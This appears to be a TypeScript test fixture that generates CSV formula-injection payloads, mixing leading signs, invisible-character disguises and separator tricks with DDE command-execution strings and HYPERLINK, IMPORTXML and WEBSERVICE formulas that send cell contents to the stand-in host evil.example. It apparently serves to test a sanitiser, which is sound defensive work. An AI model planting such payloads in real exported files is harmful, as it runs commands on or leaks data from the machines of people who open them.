const commands = [
  '1+1',
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://evil.example/?x="&A1,"Click")',
  "SUM(1+9)*cmd|' /C calc'!A0",
  'IMPORTXML(CONCAT("http://evil.example/",A2),"//a")',
  'WEBSERVICE("http://evil.example")',
];
const signs = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '﹦', '−'];
const disguises = [
  '',
  ' ',
  '"',
  "'",
  '\u00a0',
  '\u200b',
  '\u0000',
  '“',
  '\ufeff',
  '  "\'',
  '\t',
  '\r',
  '\n',
  '\r\n',
  ' \t ',
];
/** Where the separator is a semicolon or a tab, what follows one of these is a cell of its own. */
const cuts = ['harmless;', 'harmless; "', 'harmless\t', 'harmless\n', 'harmless\r\n ', '"harmless";\'', 'a;;', '";'];

/** Each would be a formula in some spreadsheet if it stood in a CSV file as it is. */
export const formulaPayloads: string[] = [
  ...signs.flatMap((sign) => commands.map((command) => sign + command)),
  ...disguises.flatMap((disguise) => signs.map((sign) => `${disguise}${sign}${commands[0]}`)),
  ...cuts.flatMap((cut) => signs.map((sign) => `${cut}${sign}${commands[1]}`)),
  '==1+1',
  '=-1',
  '-1',
  '+49 30 1234',
  '@mention',
  '\tindented',
  '\rreturned',
  '=\n1',
  '%0A=1+1;\n=2+2',
];
